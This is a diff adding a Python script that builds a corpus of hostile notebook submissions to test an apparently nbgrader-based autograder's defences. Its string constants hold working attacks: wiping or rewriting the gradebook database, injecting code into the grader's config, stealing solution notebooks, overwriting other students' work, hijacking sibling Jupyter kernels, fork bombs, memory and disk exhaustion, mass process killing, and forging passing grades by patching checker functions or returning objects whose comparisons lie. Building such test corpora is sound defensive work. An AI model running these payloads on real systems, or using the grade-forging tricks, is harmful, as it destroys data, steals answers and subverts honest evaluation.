@@ -1,0 +1,397 @@
+"""Write the hostile corpus: committed notebooks that attack the grader.
+
+Run from the repository root after changing a case (the notebooks are committed, as
+nbgrader keeps its odd submissions in tests/apps/files/)::
+
+    .venv/bin/python tests/hostile/make_corpus.py
+
+Every case is a submission of the fixture assignment (00-fixture: an answer function
+``sigmoid_prime`` tested for 2 points, a hand number ``hand`` for 1 point), built from
+the student release.  ``cases.json`` says what grading must give each one: the score
+of the same submission without the attack (``blank`` 0 or ``full`` 3), the status, and
+a word the summary must use.  ``@@COURSE_ROOT@@`` in a notebook is replaced by the
+real course root before grading: the attacker is assumed to know where it is.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import sys
+import tempfile
+import textwrap
+from pathlib import Path
+
+import nbformat
+
+HERE = Path(__file__).resolve().parent
+sys.path.insert(0, str(HERE.parent.parent))
+
+from autograder import fixture, grade  # noqa: E402
+from autograder.course_config import Course  # noqa: E402
+
+FIRST, SECOND = "answer_sigmoid_prime", "answer_hand"
+_MARKERS = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n?", re.M)
+
+# --- issue 10: reaching the machine, the gradebook and the other students -------------
+
+SQLITE_GRADEBOOK = """
+import glob, os, sqlite3
+targets = set(glob.glob('/proc/*/cwd/gradebook.db')) | {'@@COURSE_ROOT@@/gradebook.db'}
+targets |= set(glob.glob('/proc/*/root@@COURSE_ROOT@@/gradebook.db'))
+for t in sorted(targets):
+    try:
+        con = sqlite3.connect(t)
+        con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
+        con.execute("CREATE TRIGGER zero AFTER UPDATE ON grade BEGIN "
+                    "UPDATE grade SET auto_score = 0 WHERE id = NEW.id; END")
+        con.commit()
+        print("HACKED", t)
+    except Exception as exc:
+        print("no", t, type(exc).__name__)
+"""
+
+DIR_FD = """
+import glob, os
+dirs = ['/', '/proc/1/cwd', '/proc/self/cwd', '@@COURSE_ROOT@@', os.path.expanduser('~')]
+dirs += glob.glob('/proc/*/cwd') + glob.glob('/proc/*/root@@COURSE_ROOT@@')
+for d in dirs:
+    try:
+        fd = os.open(d, os.O_RDONLY)
+    except OSError:
+        continue
+    for name, action in (('nbgrader_config.py', 'append'), ('gradebook.db', 'delete'),
+                         ('submitted', 'other')):
+        try:
+            if action == 'append':
+                cfg = os.open(name, os.O_WRONLY | os.O_APPEND, dir_fd=fd)
+                os.write(cfg, b"\\nopen('/tmp/HACKED-config', 'w').write('x')\\n")
+                print("HACKED config", d)
+            elif action == 'delete':
+                os.unlink(name, dir_fd=fd)
+                print("HACKED deleted", d)
+            else:
+                sub = os.open(name, os.O_RDONLY, dir_fd=fd)
+                for student in os.listdir(sub):
+                    p = os.path.join(d, name, student, '00-fixture', 'fixture.ipynb')
+                    open(p, 'w').write('{}')
+                    print("HACKED overwrote", p)
+        except OSError:
+            pass
+"""
+
+PROC_SNOOP = """
+import glob, json
+found = []
+for pattern in ('/proc/self/root@@COURSE_ROOT@@/solutions/*/*.ipynb',
+                '/proc/*/root@@COURSE_ROOT@@/solutions/*/*.ipynb',
+                '/proc/*/cwd/solutions/*/*.ipynb', '/proc/*/cwd/source/*/*.ipynb',
+                '@@COURSE_ROOT@@/solutions/*/*.ipynb', '@@COURSE_ROOT@@/source/*/*.ipynb',
+                '@@COURSE_ROOT@@/submitted/*/*/*.ipynb', '@@COURSE_ROOT@@/gradebook.db'):
+    found += glob.glob(pattern)
+for path in found:
+    try:
+        nb = json.load(open(path))
+        for c in nb['cells']:
+            if c['metadata'].get('nbgrader', {}).get('solution'):
+                code = ''.join(c['source']).replace('### BEGIN SOLUTION', '')
+                exec(code.replace('### END SOLUTION', ''), globals())
+                print("HACKED stole", path)
+    except Exception:
+        pass
+"""
+
+SPAWN = """
+import os, subprocess, time
+try:
+    subprocess.Popen(['/bin/sh', '-c', 'sleep 4242'], start_new_session=True)
+except Exception as exc:
+    print('popen', exc)
+try:
+    os.posix_spawn('/bin/sleep', ['sleep', '4243'], dict(os.environ))
+except Exception as exc:
+    print('posix_spawn', exc)
+try:
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execv('/bin/sleep', ['sleep', '4244'])
+        os._exit(0)
+except Exception as exc:
+    print('fork', exc)
+import _posixsubprocess
+print('_posixsubprocess imported', hasattr(_posixsubprocess, 'fork_exec'))
+"""
+
+KILL_ALL = """
+import os, signal
+me = os.getpid()
+for sig in (signal.SIGSTOP, signal.SIGKILL):
+    for pid in range(1, 70000):
+        if pid != me:
+            try:
+                os.kill(pid, sig)
+            except OSError:
+                pass
+try:
+    os.kill(os.getppid(), signal.SIGKILL)
+except OSError:
+    pass
+"""
+
+SIBLING = """
+import glob, json, os
+from jupyter_client import BlockingKernelClient
+mine = os.path.realpath('/run/grader/kernel.json')
+candidates = set(glob.glob('/proc/*/root/run/grader/kernel.json'))
+candidates |= set(glob.glob('/tmp/**/kernel*.json', recursive=True))
+candidates |= set(glob.glob('/proc/*/root/tmp/backprop-grade-*/**/kernel.json', recursive=True))
+for conn in sorted(candidates):
+    if os.path.realpath(conn) == mine:
+        continue
+    try:
+        kc = BlockingKernelClient(connection_file=conn)
+        kc.load_connection_file()
+        kc.start_channels()
+        kc.execute("def sigmoid_prime(z):\\n    return z * 0\\nhand = -1.0")
+        print("HACKED injected into", conn)
+    except Exception as exc:
+        print("no", conn, exc)
+"""
+
+FORK_BOMB = """
+import os, time
+children = 0
+for _ in range(5000):
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        time.sleep(600)
+        os._exit(0)
+    children += 1
+print('forked', children)
+"""
+
+MEMORY_MULTIPLY = """
+import os, time
+for _ in range(12):
+    if os.fork() == 0:
+        try:
+            block = bytearray(1500 * 2**20)
+            block[::4096] = b'x' * len(range(0, len(block), 4096))
+            time.sleep(30)
+        except MemoryError:
+            pass
+        os._exit(0)
+time.sleep(3)
+"""
+
+DISK_FILL = """
+import os
+for d in ('.', '/home/student', '/tmp', '/run/grader', '/dev/shm', '/dev', '/var/tmp',
+          '@@COURSE_ROOT@@', '/proc/self/root@@COURSE_ROOT@@'):
+    try:
+        with open(os.path.join(d, 'fill.bin'), 'wb') as f:
+            while True:
+                f.write(b'0' * 2**20)
+    except (OSError, ValueError) as exc:
+        print(d, type(exc).__name__)
+"""
+
+OUTPUT_FLOOD = """
+import os, sys
+chunk = 'x' * (8 * 2**20)
+for _ in range(64):
+    print(chunk[: 2**20])
+    os.write(1, chunk.encode())
+    sys.stdout.flush()
+"""
+
+# --- issue 11: forging the verdict from inside the kernel ----------------------------
+
+INPUT_TRANSFORMER = """
+get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
+"""
+
+IPYTHON_HOOKS = """
+import ast
+ip = get_ipython()
+class Blank(ast.NodeTransformer):
+    def visit_Module(self, node):
+        return ast.Module(body=[ast.Pass()], type_ignores=[])
+ip.ast_transformers.append(Blank())
+ip.events.register('pre_run_cell', lambda *a: None)
+ip.events.register('post_run_cell', lambda result: setattr(result, 'error_in_exec', None))
+ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
+"""
+
+DISPLAYHOOK = """
+import sys
+sys.displayhook('x')
+def sigmoid_prime(z):
+    sys.displayhook('full credit')
+    raise NotImplementedError()
+"""
+
+SETTRACE = """
+import sys
+def tracer(frame, event, arg):
+    if event == 'exception':
+        frame.f_locals.clear()
+    return tracer
+sys.settrace(tracer)
+"""
+
+MODULE_DICTS = """
+import numpy, course.grading, course.gradcheck
+for mod in (course.grading, course.gradcheck, numpy):
+    d = vars(mod)
+    for name in list(d):
+        if name.startswith('check') or name in ('allclose', 'call', 'passed', 'isclose'):
+            d[name] = lambda *a, **k: None
+vars(course.grading)['GradingFailure'] = type('Never', (Exception,), {})
+globals()['check_close'] = lambda *a, **k: None
+import sys
+sys.modules['course.grading'] = type(sys)('fake')
+"""
+
+LYING_ARRAY = """
+import inspect, numpy as np
+class Liar:
+    def __array__(self, dtype=None, copy=None):
+        frame = inspect.currentframe().f_back
+        while frame is not None:
+            for key in ('expected', 's', 'value'):
+                v = frame.f_locals.get(key)
+                if isinstance(v, np.ndarray) or isinstance(v, float):
+                    return np.asarray(v, dtype=dtype)
+            frame = frame.f_back
+        return np.zeros(1)
+    def __float__(self):
+        return 0.25
+    def __eq__(self, other):
+        return True
+    def __sub__(self, other):
+        return 0.0
+    __rsub__ = __sub__
+def sigmoid_prime(z):
+    return Liar()
+"""
+
+LYING_NUMBERS = """
+import numpy as np
+class Zero(float):
+    def __eq__(self, other): return True
+    def __sub__(self, other): return 0.0
+    def __rsub__(self, other): return 0.0
+    def __abs__(self): return 0.0
+    def __float__(self): return 0.25
+class Lie(np.ndarray):
+    def __sub__(self, other): return np.zeros_like(np.asarray(other))
+    def __rsub__(self, other): return np.zeros_like(np.asarray(other))
+    def __eq__(self, other): return np.ones_like(np.asarray(other), dtype=bool)
+def sigmoid_prime(z):
+    return np.zeros_like(z).view(Lie)
+"""
+
+LYING_HAND = "hand = Zero(0.0)"
+
+FRAME_INSPECTION = """
+import inspect
+def sigmoid_prime(z):
+    for info in inspect.stack():
+        if 's' in info.frame.f_locals and 'z' in info.frame.f_locals:
+            s = info.frame.f_locals['s']
+            return s * (1 - s)
+    raise NotImplementedError()
+"""
+
+REPATCHING_THREAD = """
+import threading, time, numpy, course.grading
+def patch():
+    while True:
+        course.grading.check_close = lambda *a, **k: None
+        numpy.allclose = lambda *a, **k: True
+        time.sleep(0.001)
+threading.Thread(target=patch, daemon=True).start()
+"""
+
+CASES = {
+    # name: (code into the first answer cell, code into the second or None, baseline,
+    #        expected status, a word the flags must contain or None)
+    "sqlite-gradebook": (SQLITE_GRADEBOOK, None, "blank", "ok", "grading files"),
+    "dir-fd-config": (DIR_FD, None, "blank", "ok", "grading files"),
+    "proc-snoop-solutions": (PROC_SNOOP, None, "blank", "ok", "grading files"),
+    "spawn-processes": (SPAWN, None, "blank", "ok", "starts processes"),
+    "kill-everything": (KILL_ALL, None, "blank", None, "signals"),
+    "sibling-kernels": (SIBLING, None, "blank", "ok", "Jupyter kernels"),
+    "fork-bomb": (FORK_BOMB, None, "blank", None, "forks"),
+    "memory-multiply": (MEMORY_MULTIPLY, None, "blank", None, "forks"),
+    "disk-fill": (DISK_FILL, None, "blank", "ok", "/proc"),
+    "output-flood": (OUTPUT_FLOOD, None, "blank", None, None),
+    "input-transformer": (INPUT_TRANSFORMER, None, "blank", "ok", "IPython hooks"),
+    "ipython-hooks": (IPYTHON_HOOKS, None, "blank", "ok", "IPython hooks"),
+    "displayhook": (DISPLAYHOOK, None, "blank", "ok", "displayhook"),
+    "settrace": (SETTRACE, None, "blank", None, "trace function"),
+    "module-dicts": (MODULE_DICTS, None, "blank", "ok", "vars"),
+    "lying-array": (LYING_ARRAY, "hand = Liar()", "blank", "ok", "frames"),
+    "lying-numbers": (LYING_NUMBERS, LYING_HAND, "blank", "ok", "__eq__"),
+    "frame-inspection": (FRAME_INSPECTION, None, "blank", "ok", "frames"),
+    "repatching-thread": (REPATCHING_THREAD, None, "blank", "ok", "threads"),
+}
+
+
+def _meta(cell):
+    return cell.get("metadata", {}).get("nbgrader", {})
+
+
+def _with(nb, grade_id, code, after=True):
+    nb = nbformat.from_dict(nb)
+    for cell in nb.cells:
+        if _meta(cell).get("grade_id") == grade_id:
+            code = textwrap.dedent(code).strip("\n")
+            cell.source = f"{cell.source}\n\n{code}" if after else f"{code}\n\n{cell.source}"
+            return nb
+    raise KeyError(grade_id)
+
+
+def release_and_source():
+    with tempfile.TemporaryDirectory() as tmp:
+        root = fixture.make_course(Path(tmp) / "c")
+        course = Course.load(root)
+        grade.generate_release(course, fixture.ASSIGNMENT)
+        release = nbformat.read(course.release / fixture.ASSIGNMENT / "fixture.ipynb", 4)
+        source = nbformat.read(course.source / fixture.ASSIGNMENT / "fixture.ipynb", 4)
+    return release, source
+
+
+def full(release, source):
+    answers = {_meta(c).get("grade_id"): _MARKERS.sub("", c.source) for c in source.cells}
+    nb = nbformat.from_dict(release)
+    for cell in nb.cells:
+        if _meta(cell).get("solution"):
+            cell.source = answers[_meta(cell)["grade_id"]]
+    return nb
+
+
+def main():
+    release, source = release_and_source()
+    out = HERE / "fixture"
+    out.mkdir(exist_ok=True)
+    nbformat.write(release, out / "blank.ipynb")
+    nbformat.write(full(release, source), out / "full.ipynb")
+    manifest = {}
+    for name, (first, second, baseline, status, flag) in CASES.items():
+        nb = _with(release, FIRST, first)
+        if second:
+            nb = _with(nb, SECOND, second, after=False)
+        nbformat.write(nb, out / f"{name}.ipynb")
+        manifest[name] = {"baseline": baseline, "status": status, "flag": flag}
+    (HERE / "cases.json").write_text(json.dumps(manifest, indent=1) + "\n")
+    print(f"wrote {len(manifest) + 2} notebooks to {out}")
+
+
+if __name__ == "__main__":
+    main()
